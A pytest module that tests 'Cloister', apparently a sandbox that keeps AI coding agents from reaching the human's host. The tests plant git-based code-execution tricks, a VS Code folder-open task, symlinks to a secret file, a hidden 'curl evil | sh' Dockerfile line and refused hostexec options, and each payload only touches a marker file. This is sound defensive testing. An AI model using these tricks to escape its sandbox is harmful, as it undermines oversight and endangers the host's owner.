"""Family 6, the host boundary: what an agent plants for the host to read or run.

Each cloister has a git directory of its own (the human's ``.git`` is never in the
container; commits come back by ``cloister sync``), ``hostexec git`` runs the human's
git on the host under rules, and the project's protected paths are read-only inside.
Every attack below is made from inside a cloister of the shared ``stack`` (root and
non-root host user), by ``docker exec`` as the agent would; then the host does what
people do — the human's own git (``status``, ``diff``, ``merge --abort``, ``rebase
--continue``, ``sparse-checkout``, ``restore .``, ``commit -a`` …), ``hostexec git``,
``cloister sync``, ``stop``, ``start``, ``restore``, ``review``, ``gc``. Every planted
command only touches a marker file on the host, and the human's own git config has a
filter driver (``filter.probe``) that touches it too: the marker is the canary, and it
never appears. A file of the human's outside the project holds a secret line that is
never printed.

Attacks (``->``: the expected result):

==================================================  ================================================
test                                                attack -> expected
==================================================  ================================================
test_planted_git_state_runs_nothing                 In its git directory, all at once: a forged
                                                    (split) index naming ``../home-secret``; a
                                                    made-up rebase (``exec`` todo, ``strategy``) and
                                                    cherry-pick sequencer; autostash/``ORIG_HEAD``
                                                    naming a tree with ``.husky/pre-commit`` and
                                                    ``.vscode/tasks.json``; a dormant
                                                    ``config.worktree`` with ``core.fsmonitor``;
                                                    ``refs/replace`` over the README's blob; a
                                                    nested repository with ``core.fsmonitor`` as a
                                                    gitlink (in the index, on a branch the human
                                                    merges); ``.vscode`` committed as a link to a
                                                    folder-open task. Then hostexec git, sync, stop,
                                                    start, stop, restore and the human's git. ->
                                                    canary silent, secret never printed, the human's
                                                    refs stay and ``fsck`` is clean, no
                                                    ``refs/replace`` on the host, no fast-forward,
                                                    no ``tasks.json``; ``stop`` quarantines the
                                                    nested repository.
test_a_broken_git_directory_fails_safely[fifo]      A FIFO in the git directory. -> the sync fails
                                                    at once (1), ``stop`` keeps the directory, the
                                                    next start sets it aside.
test_a_broken_git_directory_fails_safely[links]     ``packed-refs``, ``shallow``, alternates linked
                                                    to the human's secret. -> never read, canary
                                                    silent.
test_a_broken_git_directory_fails_safely[latin1]    A branch name that is no UTF-8. -> it stays
                                                    behind, the others come back, the executor runs
                                                    on; a start with such refs on the host works.
test_hostexec_git_dangerous_options_are_refused     hostexec git with ``-c``, ``-C``, ``--git-dir``,
                                                    ``--exec-path=``, ``fetch --upload-pack``,
                                                    ``grep -O``, ``rebase -x``, ``diff --output``, a
                                                    ``config`` write, ``pull``, ``am``,
                                                    ``cherry-pick --stdin``, ``apply
                                                    --build-fake-ancestor``, ``submodule foreach``.
                                                    -> "is refused" though ``^git( .*)?$`` is
                                                    auto-approved; ``hostexec git status`` works.
test_hostexec_git_never_writes_a_protected_path     hostexec git ``checkout``/``restore`` of the
                                                    agent's commit planting ``.envrc``. ->
                                                    "protected path", ``.envrc`` as the human left
                                                    it.
test_hostexec_git_runs_no_filter_of_yours           ``.gitattributes`` choosing the human's filter
                                                    driver, then hostexec git ``status``/``diff``.
                                                    -> the filter never runs.
test_a_fresh_worktree_runs_no_filter_of_yours       A worktree cloister emptied, written afresh from
                                                    the agent's branch with such a
                                                    ``.gitattributes``. -> the filter never runs.
test_protected_paths_are_read_only                  Writing, appending, replacing, removing,
                                                    renaming ``.envrc``, ``.devcontainer/``,
                                                    ``.devcontainer.json``, ``.vscode/tasks.json``,
                                                    ``.cloister/``, ``.husky/``, ``.git/config``,
                                                    ``.git/hooks``, ``/.cloister``. -> every attempt
                                                    fails; a normal edit and commit work; the host's
                                                    files are as the human left them.
test_hooks_in_the_work_tree_stay_the_humans         The project's ``core.hooksPath`` (``.husky``).
                                                    -> read-only inside, the agent's commit goes
                                                    through it, the human's commit runs the human's
                                                    hook.
test_a_planted_shape_is_shown_and_refused           ``.cloister/Dockerfile`` and
                                                    ``.devcontainer.json`` committed past the
                                                    protection, an escape sequence erasing a line.
                                                    -> no fast-forward; merged by the human, the
                                                    next start is refused without a terminal, and at
                                                    one the diff shows the escapes, "n" starts
                                                    nothing.
test_agent_state_plants_and_deep_trees_run_nothing  Agent state dir: a ``.git`` with
                                                    ``core.fsmonitor``, ``settings.json`` a link to
                                                    the secret, ``.claude.json`` a FIFO, a 40-level
                                                    ``settings.json``; 1,100-level trees there, in
                                                    ``.git`` and in the work tree. ->
                                                    ``.git.disabled-by-cloister`` at stop; the link
                                                    replaced, never followed; no hang; the deep file
                                                    replaced; review, sync, stop and the next start
                                                    (its snapshot) cope.
test_restore_brings_back_a_vandalised_repository    ``reset --hard HEAD~3``, ``branch -f``, ``tag
                                                    -d``, ``reflog expire``, ``gc --prune=now``,
                                                    ``rm -rf .git``, the work tree vandalised. ->
                                                    the human's history intact, the sync fails (1),
                                                    ``cloister restore`` after ``stop`` brings back
                                                    refs, index and work tree.
==================================================  ================================================
"""

from __future__ import annotations

import hashlib
import shlex
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from cloister_core import beneath
from tests import terminal
from tests.cli.cli_support import (
    SLIM_IMAGE,
    Result,
    exec_in,
    exec_ok,
    git,
    git_executable,
    make_repo,
    remove_containers,
    run_command,
    squash,
    unique,
)
from tests.e2e.harness import Stack

pytestmark = [pytest.mark.docker, pytest.mark.timeout(1800)]

SECRET = "SECRET-LINE-7c2e the-human-s-private-data"
SYNC_SECONDS = 20.0  # the watch syncs within seconds; a loaded machine gets leeway
# A sync of an ordinary git directory takes about a second; a minute leaves room for a
# loaded machine (the export's own limit, the one a FIFO once held it to, is 300 s).
SYNC_LIMIT = 60.0
# Every git command is auto-approved, so a refusal is the git rules', not the hub's.
PROJECT_CONFIG = 'hostexec:\n  auto_approve:\n    - pattern: "^git( .*)?$"\n'


# -- a project of the human's, its cloisters, the canary --------------------------------------


@dataclass
class Scene:
    """A repository of the stack's user, its cloister, the canary and a secret."""

    stack: Stack
    repo: Path
    name: str
    marker: Path  # planted code, and the human's filter driver, touch it
    secret: Path  # a file of the human's outside the project
    started: list[str] = field(default_factory=list)

    @property
    def user_argv(self) -> list[str]:
        return [] if self.stack.user is None else self.stack.user.command([])

    def git(self, *args: str) -> str:
        return git(self.repo, *args, user=self.stack.user)

    def human(self, *args: str) -> str:
        """The human's own git (failures are fine); everything it printed."""
        argv = [git_executable(), "-C", str(self.repo), *args]
        user = self.stack.user
        result = run_command(argv, timeout=60) if user is None else user.run(argv, timeout=60)
        return result.stdout + result.stderr

    def inside(self, script: str, name: str | None = None) -> Result:
        """*script* in the cloister, with MARKER and SECRET set to the host's paths."""
        exports = f"MARKER={shlex.quote(str(self.marker))} SECRET={shlex.quote(str(self.secret))}"
        return exec_in(name or self.name, f"export {exports}; {script}", timeout=300)

    def hostexec(self, *argv: str) -> str:
        result = exec_in(self.name, shlex.join(["hostexec", *argv]))
        return result.stdout + result.stderr

    def start(self, *args: str, name: str | None = None) -> Result:
        name = name or self.name
        if name not in self.stack.started:
            self.stack.started.append(name)
        self.started.append(name)
        return self.stack.cli.run("start", "-d", *args, cwd=self.repo, timeout=600)

    def write(self, relative: str, text: str) -> Path:
        path = self.repo / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        if self.stack.user is not None:
            self.stack.user.adopt(self.repo)
        return path

    def refs(self) -> dict[str, str]:
        """The human's refs, but Cloister's namespace for the agent's."""
        listed = self.git("for-each-ref", "--format=%(objectname) %(refname)")
        return {
            name: oid
            for oid, _, name in (line.partition(" ") for line in listed.splitlines())
            if not name.startswith("refs/cloister/")
        }

    def close(self) -> None:
        for name in dict.fromkeys(self.started):
            self.stack.cli.run("stop", name, timeout=600)
        remove_containers(list(dict.fromkeys(self.started)))


def new_scene(stack: Stack, prefix: str, files: dict[str, str] | None = None) -> Scene:
    """A repository with *files* committed, the human's filter driver configured (it
    touches the canary), every git command auto-approved for hostexec."""
    name = unique(prefix)
    user = stack.user
    base = stack.cli.root / f"{name}-host"
    base.mkdir()
    if user is not None:
        user.adopt(base)
    repo = make_repo(base / name, user=user)
    secret = base / "home-secret"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    scene = Scene(stack, repo, name, base / "planted-code-ran", secret)
    for relative, text in (files or {}).items():
        scene.write(relative, text)
    if files:
        scene.git("add", "-A")
        scene.git("commit", "-qm", "the human's setup")
    # A filter driver of the human's (git-lfs's is the usual one): the agent's
    # .gitattributes chooses the files it would run on.
    probe = f'sh -c "echo ran >> {scene.marker}; cat"'
    scene.git("config", "filter.probe.clean", probe)
    scene.git("config", "filter.probe.smudge", probe)
    if user is not None:
        user.adopt(base)
    stack.cli.write_project_config(name, PROJECT_CONFIG)
    return scene


@pytest.fixture
def scene_of(stack: Stack) -> Iterator[list[Scene]]:
    """Scenes made by a test (``new_scene``), their cloisters stopped after it."""
    made: list[Scene] = []
    yield made
    for scene in made:
        scene.close()


def fresh(stack: Stack, made: list[Scene], prefix: str, **files: str) -> Scene:
    scene = new_scene(stack, prefix, files or None)
    made.append(scene)
    return scene


def started(scene: Scene, *args: str, name: str | None = None) -> Result:
    result = scene.start(*args, name=name)
    assert result.returncode == 0, result.describe()
    return result


def no_escape(scene: Scene, output: str) -> None:
    assert not scene.marker.exists(), "the agent's code (or your filter) ran on the host"
    assert SECRET not in output, "a file of the human's was printed"
    assert scene.secret.read_text(encoding="utf-8") == SECRET + "\n"


def human_battery(scene: Scene) -> str:
    """What a human runs in a repository an agent worked in, that changes no ref."""
    said = ""
    for args in (
        ["status"],
        ["diff"],
        ["diff", "--cached"],
        ["log", "--all", "--oneline", "-5"],
        ["show", "HEAD"],
        ["merge", "--abort"],
        ["rebase", "--continue"],
        ["rebase", "--abort"],
        ["cherry-pick", "--continue"],
        ["cherry-pick", "--abort"],
        ["revert", "--abort"],
        ["sparse-checkout", "set", "--no-cone", "/*"],
        ["status"],
        ["sparse-checkout", "disable"],
        ["submodule", "update"],
        ["fsck"],
    ):
        said += scene.human(*args)
    return said


def everything_runs_nothing(scene: Scene) -> None:
    """hostexec git, a sync, the human's git, a stop, a start, a restore, a commit: the
    canary stays silent, the human's refs stay theirs, fsck is clean."""
    refs = scene.refs()
    said = human_battery(scene)
    for argv in (["git", "status"], ["git", "diff"], ["git", "log", "--oneline", "-3"]):
        said += scene.hostexec(*argv)
    said += scene.stack.cli.run("sync", scene.name, cwd=scene.repo).output
    no_escape(scene, said)
    said += scene.stack.cli.run("stop", scene.name).output + human_battery(scene)
    no_escape(scene, said)
    assert scene.refs() == refs, "the human's refs moved"
    assert "error" not in scene.human("fsck", "--no-dangling").lower()
    said += started(scene).output + scene.stack.cli.run("stop", scene.name).output
    said += scene.stack.cli.run("restore", scene.name).output + human_battery(scene)
    scene.write("README.md", "edited by the human\n")
    said += scene.human("restore", ".")
    scene.write("human.txt", "the human's own work\n")
    said += scene.human("add", "human.txt") + scene.human("commit", "-a", "-q", "-m", "human")
    no_escape(scene, said + scene.human("status"))
    assert scene.git("log", "-1", "--format=%s") == "human"


# -- plants in the agent's git directory ---------------------------------------------------------


def forged_index(path: str) -> bytes:
    """An index (version 2) with one entry: *path*, the empty blob; git checks an entry's
    path when it writes one, never when it reads the file back."""
    empty = bytes.fromhex("e69de29bb2d1d6434b8b29ae775ad8c2e48c5391")
    name = path.encode()
    entry = b"\0" * 24 + (0o100644).to_bytes(4, "big") + b"\0" * 12 + empty
    entry += min(len(name), 0xFFF).to_bytes(2, "big") + name
    entry += b"\0" * (8 - (len(entry) % 8))
    body = b"DIRC" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + entry
    return body + hashlib.sha1(body, usedforsecurity=False).digest()


PLANT_SUB = (
    "mkdir sub && cd sub && git init -q && git config user.name a && git config user.email a@b"
    ' && echo s > f && git add f && git commit -qm s && git config core.fsmonitor "touch $MARKER;'
    ' echo" && cd ..'
)
PLANTS = {
    "made-up operation in progress": (
        "mkdir -p .git/rebase-merge .git/sequencer"
        ' && printf "exec\\ttouch %s\\n" "$MARKER" > .git/rebase-merge/git-rebase-todo'
        " && echo x/../tools.sh > .git/rebase-merge/strategy"
        " && git rev-parse HEAD > .git/rebase-merge/head-name"
        ' && printf "[options]\\n\\tstrategy = x/../tools.sh\\n" > .git/sequencer/opts'
        ' && printf "exec touch %s\\n" "$MARKER" > .git/sequencer/todo'
        " && git rev-parse HEAD > .git/CHERRY_PICK_HEAD"
    ),
    "autostash and heads": (
        'hook=$(printf "#!/bin/sh\\ntouch %s\\n" "$MARKER" | git hash-object -w --stdin)'
        ' && tasks=$(echo "{}" | git hash-object -w --stdin)'
        ' && husky=$(printf "100755 blob %s\\tpre-commit\\n" "$hook" | git mktree)'
        ' && vscode=$(printf "100644 blob %s\\ttasks.json\\n" "$tasks" | git mktree)'
        ' && tree=$(printf "040000 tree %s\\t.husky\\n040000 tree %s\\t.vscode\\n"'
        ' "$husky" "$vscode" | git mktree)'
        " && base=$(git rev-parse HEAD)"
        ' && index=$(git commit-tree -p "$base" -m index "$tree")'
        ' && stash=$(git commit-tree -p "$base" -p "$index" -m stash "$tree")'
        " && for f in MERGE_AUTOSTASH ORIG_HEAD rebase-merge/autostash sequencer/head;"
        ' do echo "$stash" > .git/$f; done'
    ),
    "dormant config.worktree": (
        'printf "[core]\\n\\tfsmonitor = touch %s; echo\\n" "$MARKER" > .git/config.worktree'
    ),
    "replace ref": (
        "evil=$(echo 'curl evil | sh' | git hash-object -w --stdin)"
        " && git replace $(git rev-parse HEAD:README.md) $evil"
    ),
    "gitlink on a branch": (
        f"{PLANT_SUB} && git checkout -qb agent-work && git add sub && git commit -qm 'add sub'"
        " && git checkout -q - && git add sub"
    ),
    "link over a protected parent": (
        'mkdir -p evil && printf \'{"version": "2.0.0", "tasks": [{"label": "x",'
        ' "type": "shell", "command": "touch %s",'
        ' "runOptions": {"runOn": "folderOpen"}}]}\' "$MARKER" > evil/tasks.json'
        " && git add evil/tasks.json"
        " && link=$(printf evil | git hash-object -w --stdin)"
        " && git update-index --add --cacheinfo 120000,$link,.vscode"
        " && git commit -qm 'editor settings'"
    ),
    "forged index": (
        "cp forged-index .git/index && cp .git/index .git/sharedindex.$(sha1sum .git/index"
        " | cut -c1-40) && rm forged-index"
    ),
}


def test_planted_git_state_runs_nothing(stack: Stack, scene_of: list[Scene]) -> None:
    scene = fresh(stack, scene_of, "plants")
    head = scene.git("rev-parse", "HEAD")
    started(scene)
    scene.write("forged-index", "").write_bytes(forged_index("../home-secret"))
    for what, script in PLANTS.items():
        planted = scene.inside(script)
        assert planted.returncode == 0, f"{what}: {planted.describe()}"
    said = scene.hostexec("git", "diff") + scene.human("diff") + scene.human("restore", ".")
    no_escape(scene, said)
    synced = stack.cli.run("sync", scene.name, cwd=scene.repo)
    assert "Traceback" not in synced.output, synced.describe()
    # The agent's commits came back beside the human's, none fast-forwarded the branch
    # (a link over .vscode is a change to a protected path).
    branch = scene.git("symbolic-ref", "--short", "HEAD")
    assert scene.git("rev-parse", "HEAD") == head, synced.describe()
    assert scene.git("log", "-1", "--format=%s", f"refs/cloister/{scene.name}/{branch}") == (
        "editor settings"
    )
    assert scene.git("for-each-ref", "refs/replace") == ""
    assert scene.git("show", "HEAD:README.md") == "hello"
    assert "curl evil" not in scene.human("log", "-p", "--all")
    scene.human("restore", ".")
    assert not (scene.repo / ".vscode" / "tasks.json").is_file()
    everything_runs_nothing(scene)
    for path in (".husky/pre-commit", ".vscode/tasks.json"):
        assert not (scene.repo / path).exists(), path
    # The gitlink on the agent's branch, merged by the human: its repository went to the
    # quarantine at stop, so the human's git enters nothing of the agent's.
    said = scene.human("merge", "-q", "--no-edit", f"refs/cloister/{scene.name}/agent-work")
    said += scene.human("status") + scene.human("diff") + scene.human("commit", "-qam", "x")
    no_escape(scene, said)
    assert not (scene.repo / "sub" / ".git").exists()


# -- a git directory the agent broke ---------------------------------------------------------------

BROKEN = {
    "fifo": "mkfifo .git/refs/heads/zz",
    "links": "".join(
        f'ln -sf "$SECRET" .git/{where}; '
        for where in ("packed-refs", "shallow", "objects/info/alternates")
    )
    + "git status >/dev/null 2>&1; true",
    "latin1": "git branch $'caf\\xe9' && git commit -q --allow-empty -m agent",
}


def executor_runs(stack: Stack) -> bool:
    daemon = f"cloister_executor.main serve --config-dir {stack.cli.config_dir} "
    return run_command(["pgrep", "-f", daemon], timeout=30).returncode == 0


@pytest.mark.parametrize("attack", list(BROKEN))
def test_a_broken_git_directory_fails_safely(
    stack: Stack, scene_of: list[Scene], attack: str
) -> None:
    scene = fresh(stack, scene_of, f"broken-{attack}")
    started(scene)
    refs = scene.refs()
    planted = scene.inside(BROKEN[attack])
    assert planted.returncode == 0, planted.describe()
    try:
        synced = stack.cli.run("sync", scene.name, timeout=SYNC_LIMIT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`cloister sync` was still running after {SYNC_LIMIT:g}s", pytrace=False)
    said = synced.output + scene.hostexec("git", "status")
    assert "Traceback" not in synced.output, synced.describe()
    no_escape(scene, said + human_battery(scene))
    if attack == "latin1":  # the other branch came back (a fast-forward), not this one
        branch = scene.git("symbolic-ref", "--short", "HEAD")
        assert scene.git("log", "-1", "--format=%s") == "agent", synced.describe()
        agent = scene.git("for-each-ref", "--format=%(refname)", f"refs/cloister/{scene.name}/")
        assert agent.split() == [f"refs/cloister/{scene.name}/{branch}"]
    else:
        assert scene.refs() == refs
    assert "error" not in scene.human("fsck").lower()
    assert executor_runs(stack), "the executor daemon died"
    if attack == "fifo":
        assert synced.returncode == 1, synced.describe()
    stopped = stack.cli.run("stop", scene.name, timeout=SYNC_LIMIT)
    assert stopped.returncode == 0, stopped.describe()
    if attack == "fifo":
        assert "could not be brought back" in squash(stopped.output), stopped.describe()
    if attack == "latin1":
        # Names that are bytes, not text, on the host too: the next start takes them.
        head = scene.git("rev-parse", "HEAD")
        weird = [*scene.user_argv, git_executable(), "-C", str(scene.repo), "update-ref"]
        for ref in (b"refs/heads/caf\xe9", f"refs/cloister/{scene.name}/caf".encode() + b"\xe9"):
            subprocess.run([*weird, ref, head], check=True, capture_output=True, timeout=60)
    again = started(scene)
    assert "Traceback" not in again.output, again.describe()
    if attack == "fifo":
        assert "kept at" in squash(again.output), again.describe()
    assert exec_ok(scene.name, "git status --short").returncode == 0
    if attack == "latin1":
        inside = exec_ok(scene.name, "git for-each-ref --format='%(refname)' refs/heads/ | od -c")
        assert "c   a   f 351" in inside.stdout, inside.stdout
    no_escape(scene, again.output + stack.cli.run("stop", scene.name).output)


# -- one cloister for what needs no cloister of its own -----------------------------------------

ENVRC = "export FROM_THE_HUMAN=1\n"
NOTES = "the human's devcontainer notes\n"
HUSKY = '#!/bin/sh\n[ -n "$HOOK_LOG" ] && echo ran >> "$HOOK_LOG"\nexit 0\n'


@pytest.fixture(scope="session")
def shared(stack: Stack) -> Iterator[Scene]:
    """One cloister per stack, for the attacks that leave it as it was: a committed
    ``.envrc``, ``.devcontainer/`` and ``.husky/`` (the project's ``core.hooksPath``)."""
    scene = new_scene(
        stack,
        "boundary",
        {".envrc": ENVRC, ".devcontainer/notes.txt": NOTES, ".husky/pre-commit": HUSKY},
    )
    (scene.repo / ".husky" / "pre-commit").chmod(0o755)
    scene.git("add", ".husky")
    scene.git("commit", "-qm", "hooks executable")
    scene.git("config", "core.hooksPath", ".husky")
    result = started(scene, "--yes")  # .devcontainer/ shapes the cloister: asked once
    assert ".husky" in squash(result.stderr), result.describe()
    try:
        yield scene
    finally:
        scene.close()


HOSTEXEC_REFUSED = [
    ["-c", "core.fsmonitor=touch $MARKER", "status"],
    ["-C", "/", "status"],
    ["--git-dir=/tmp", "status"],
    ["--exec-path=/tmp", "status"],
    ["fetch", "--upload-pack=touch /tmp/x", "origin"],
    ["grep", "-O", "hello"],
    ["rebase", "-x", "touch /tmp/x", "HEAD"],
    ["diff", "--output=/tmp/x"],
    ["config", "core.hooksPath", "/tmp"],
    ["pull"],
    ["am", "/dev/null"],
    ["cherry-pick", "--stdin"],
    ["apply", "--build-fake-ancestor=/tmp/x", "/dev/null"],
    ["submodule", "foreach", "touch /tmp/x"],
]


@pytest.mark.parametrize("argv", HOSTEXEC_REFUSED, ids=lambda argv: " ".join(argv)[:30])
def test_hostexec_git_dangerous_options_are_refused(shared: Scene, argv: list[str]) -> None:
    control = shared.hostexec("git", "status", "--short")
    assert "is refused" not in control, control
    said = shared.hostexec("git", *(part.replace("$MARKER", str(shared.marker)) for part in argv))
    assert "is refused" in said, said
    no_escape(shared, said)


def test_hostexec_git_never_writes_a_protected_path(shared: Scene) -> None:
    made = shared.inside(
        "export GIT_INDEX_FILE=/tmp/evil-index && git read-tree HEAD"
        ' && blob=$(printf "touch %s\\n" "$MARKER" | git hash-object -w --stdin)'
        ' && git update-index --add --cacheinfo "100644,$blob,.envrc"'
        " && commit=$(git commit-tree -p HEAD -m evil $(git write-tree))"
        ' && git branch -f evil "$commit" && echo "$commit"'
    )
    assert made.returncode == 0, made.describe()
    commit = made.stdout.strip().splitlines()[-1]
    shared.stack.cli.ok("sync", shared.name)
    for target in (f"refs/cloister/{shared.name}/evil", commit, commit[:10]):
        refused = shared.hostexec("git", "checkout", target)
        assert "protected path" in refused, refused
    refused = shared.hostexec("git", "restore", f"--source={commit}", ".envrc")
    assert "protected path" in refused, refused
    assert (shared.repo / ".envrc").read_text(encoding="utf-8") == ENVRC
    no_escape(shared, refused)


def test_hostexec_git_runs_no_filter_of_yours(shared: Scene) -> None:
    """hostexec git status/diff with the agent's .gitattributes choosing the human's
    filter driver for README.md (status runs it when only the stat data changed)."""
    planted = shared.inside(
        "echo 'README.md filter=probe' > .gitattributes && echo HELLO > README.md"
    )
    assert planted.returncode == 0, planted.describe()
    try:
        for argv in (["git", "status", "--short"], ["git", "diff", "--stat"]):
            said = shared.hostexec(*argv)
            assert "is refused" not in said, said
            assert "README.md" in said, said
            no_escape(shared, said)
    finally:
        exec_ok(shared.name, "rm -f .gitattributes && git checkout -q README.md")


PROTECTED_WRITES = [
    "echo evil > .envrc",
    "echo evil >> .envrc",
    "truncate -s 0 .envrc",
    "echo evil > e.tmp && mv -f e.tmp .envrc",
    "rm -f .envrc",
    "mv .envrc moved.envrc",
    "echo '{}' > .devcontainer/devcontainer.json",
    "echo evil >> .devcontainer/notes.txt",
    "rm -rf .devcontainer",
    "mv .devcontainer elsewhere",
    "echo '{}' > .devcontainer.json",
    "echo '{\"tasks\": []}' > .vscode/tasks.json",
    "rmdir .vscode/tasks.json",
    "mv .vscode vscode-old && mkdir .vscode && echo '{}' > .vscode/tasks.json",
    "touch .cloister/Dockerfile",
    "rm -rf .cloister && mkdir .cloister && touch .cloister/Dockerfile",
    'echo "touch $MARKER" >> .husky/pre-commit',
    'printf "#!/bin/sh\\ntouch %s\\n" "$MARKER" > .husky/post-commit',
    "rm -rf .husky",
    "echo '[core]' >> .git/config",
    "touch .git/hooks/pre-commit",
    "echo '{}' > /.cloister",
]


def test_protected_paths_are_read_only(shared: Scene) -> None:
    for script in PROTECTED_WRITES:
        result = shared.inside(script)
        assert result.returncode != 0, f"the agent could: {script}\n{result.describe()}"
    exec_in(shared.name, "rm -f e.tmp; rm -rf elsewhere vscode-old")
    # A normal edit and a commit (through the project's hook) work; the stand-ins are
    # invisible to git.
    exec_ok(
        shared.name,
        "echo 'by the agent' >> notes.md && git add -A && git commit -qm 'the agent was here'",
    )
    assert exec_ok(shared.name, "git status --porcelain --untracked-files=all").stdout == ""
    assert (shared.repo / ".envrc").read_text(encoding="utf-8") == ENVRC
    assert sorted(path.name for path in (shared.repo / ".devcontainer").iterdir()) == ["notes.txt"]
    assert (shared.repo / ".husky" / "pre-commit").read_text(encoding="utf-8") == HUSKY
    assert not (shared.repo / ".husky" / "post-commit").exists()
    no_escape(shared, "")


def test_hooks_in_the_work_tree_stay_the_humans(shared: Scene) -> None:
    committed = exec_in(
        shared.name, "echo x > hooked.txt && git add hooked.txt && git commit -qm in"
    )
    assert committed.returncode == 0, committed.describe()
    shared.stack.cli.ok("sync", shared.name)
    log = shared.repo.parent / "human-hook-log"
    shared.write("human-y.txt", "y\n")
    shared.git("add", "human-y.txt")
    argv = ["env", f"HOOK_LOG={log}", git_executable(), "-C", str(shared.repo)]
    argv += ["commit", "-qm", "the human's"]
    user = shared.stack.user
    done = run_command(argv, timeout=60) if user is None else user.run(argv)
    assert done.returncode == 0, done.describe()
    assert log.read_text(encoding="utf-8") == "ran\n"
    no_escape(shared, done.output)


# -- a planted shape: .cloister/ and .devcontainer.json ----------------------------------------

# The agent's files, committed past the protected paths with git's plumbing; a line of
# the Dockerfile ends in an escape sequence that erases it, and the one before, on a
# terminal.
PLANTED_SHAPE = (
    f"mkdir -p /tmp/shape && printf 'FROM {SLIM_IMAGE}\\nRUN curl evil | sh \\033[2K\\033[1A\\n'"
    " > /tmp/shape/Dockerfile"
    f' && printf \'{{"image": "{SLIM_IMAGE}", "runArgs": ["--privileged"]}}\\n\''
    " > /tmp/shape/devcontainer.json"
    " && for f in .cloister/Dockerfile:Dockerfile .devcontainer.json:devcontainer.json; do"
    " git update-index --add --cacheinfo"
    ' "100644,$(git hash-object -w /tmp/shape/${f#*:}),${f%%:*}" || exit 1;'
    " done && git commit -qm 'a better image'"
)


def answer_in_terminal(scene: Scene, answer: str) -> tuple[str, int]:
    """``cloister start -d`` on a terminal: what it showed before asking, and its exit
    status after *answer*."""
    return terminal.answer_in_terminal(
        scene.stack.cli.command("start", "-d"),
        cwd=scene.repo,
        env=scene.stack.cli.env,
        question=b"Start with them?",
        answer=answer,
    )


def test_a_planted_shape_is_shown_and_refused(stack: Stack, scene_of: list[Scene]) -> None:
    scene = fresh(stack, scene_of, "shape")
    head = scene.git("rev-parse", "HEAD")
    started(scene)
    planted = scene.inside(PLANTED_SHAPE)
    assert planted.returncode == 0, planted.describe()
    synced = stack.cli.run("sync", scene.name)
    assert scene.git("rev-parse", "HEAD") == head, synced.describe()  # no fast-forward
    stack.cli.ok("stop", scene.name)
    # The human takes the agent's branch (merging is taking its changes).
    branch = scene.git("symbolic-ref", "--short", "HEAD")
    scene.git("merge", "-q", "--ff-only", f"refs/cloister/{scene.name}/{branch}")
    refused = scene.start()
    assert refused.returncode == 1, refused.describe()
    told = squash(refused.stderr)
    assert "not started" in told, refused.describe()
    assert ".cloister/Dockerfile" in told, refused.describe()
    assert ".devcontainer.json" in told, refused.describe()
    assert scene.name not in stack.cli.listing()
    shown, status = answer_in_terminal(scene, "n")
    assert status == 1, shown
    # The line that would erase itself is shown, its escapes visible.
    assert "+RUN curl evil | sh \\x1b[2K\\x1b[1A" in shown, shown
    assert "--privileged" in shown, shown
    assert scene.name not in stack.cli.listing()
    no_escape(scene, shown)


# -- the agent's state directory, and trees a thousand levels deep ------------------------------

STATE_PLANTS = (
    "cd $HOME/.claude"
    ' && git init -q && git config core.fsmonitor "touch $MARKER; echo"'
    ' && rm -f settings.json && ln -s "$SECRET" settings.json'
    " && rm -f .claude.json && mkfifo .claude.json"
    " && cd $HOME/.gemini && rm -f settings.json"
    " && printf '%.0s{\"a\":' $(seq 40) > settings.json"
    " && printf '%.0s}' $(seq 40) >> settings.json"
)


DEEP = "d=$1; for i in $(seq 1100); do d=$d/d; done; mkdir -p $d && touch $d/x"
DEEP_PLACES = ("/work/.git/deep", "/work/deep", "$HOME/.claude/deep")


def test_agent_state_plants_and_deep_trees_run_nothing(stack: Stack, scene_of: list[Scene]) -> None:
    """The agent's state directory, and 1,100-level trees there, in its git directory
    and in the work tree: review, sync, stop, the next start (its snapshot) cope."""
    scene = fresh(stack, scene_of, "state")
    started(scene)
    state = stack.cli.data_dir / "agents" / scene.name
    try:
        planted = scene.inside(STATE_PLANTS)
        assert planted.returncode == 0, planted.describe()
        for where in DEEP_PLACES:
            made = scene.inside(f"set -- {where}; {DEEP}")
            assert made.returncode == 0, made.describe()
        assert (state / "claude" / "deep").is_dir()
        said = ""
        for command in (["review", scene.name], ["sync", scene.name], ["stop", scene.name]):
            done = stack.cli.run(*command)
            assert "Traceback" not in done.output, done.describe()
            said += done.output
        assert (state / "claude" / ".git.disabled-by-cloister").is_dir(), said
        assert not (state / "claude" / ".git").exists()
        # The human's git-aware prompt there enters no repository of the agent's.
        argv = [*scene.user_argv, git_executable(), "-C", str(state / "claude"), "status"]
        said += run_command(argv, timeout=60).output
        again = scene.start()  # no hang on the FIFO, no write through the link
        assert again.returncode == 0, again.describe()
        assert "Traceback" not in again.output, again.describe()
        assert not (state / "claude" / "settings.json").is_symlink()
        assert (state / "claude" / "settings.json").is_file()
        deep = (state / "gemini" / "settings.json").read_text(encoding="utf-8")
        assert deep.count("{") < 40, deep[:200]  # replaced, not merged
        no_escape(scene, said + again.output + human_battery(scene))
    finally:  # pytest's own clean-up of old temporary directories recurses
        beneath.remove_tree(scene.repo / "deep")
        beneath.remove_tree(state / "claude" / "deep")


# -- restore -----------------------------------------------------------------------------------


def repository_state(scene: Scene) -> dict[str, str]:
    return {
        # Sorted: commits made in one second have no order of their own in `git log`.
        "log": "\n".join(sorted(scene.git("log", "--all", "--format=%H %P %s").splitlines())),
        "refs": "\n".join(f"{oid} {name}" for name, oid in sorted(scene.refs().items())),
        "head": scene.git("symbolic-ref", "HEAD"),
        "staged": scene.git("diff", "--cached"),
        "unstaged": scene.git("diff"),
        "untracked": scene.git("ls-files", "--others", "--exclude-standard"),
        "notes": (scene.repo / "notes.txt").read_text(encoding="utf-8"),
    }


def test_restore_brings_back_a_vandalised_repository(stack: Stack, scene_of: list[Scene]) -> None:
    scene = fresh(stack, scene_of, "restore")
    for number in range(5):
        scene.write(f"file{number}.txt", f"version {number}\n")
        scene.git("add", ".")
        scene.git("commit", "-qm", f"commit {number}")
    scene.git("branch", "side", "HEAD~2")
    scene.git("tag", "v1", "HEAD~1")
    scene.write("file0.txt", "unstaged\n")
    scene.write("file1.txt", "staged\n")
    scene.git("add", "file1.txt")
    scene.write("notes.txt", "untracked\n")
    before = repository_state(scene)
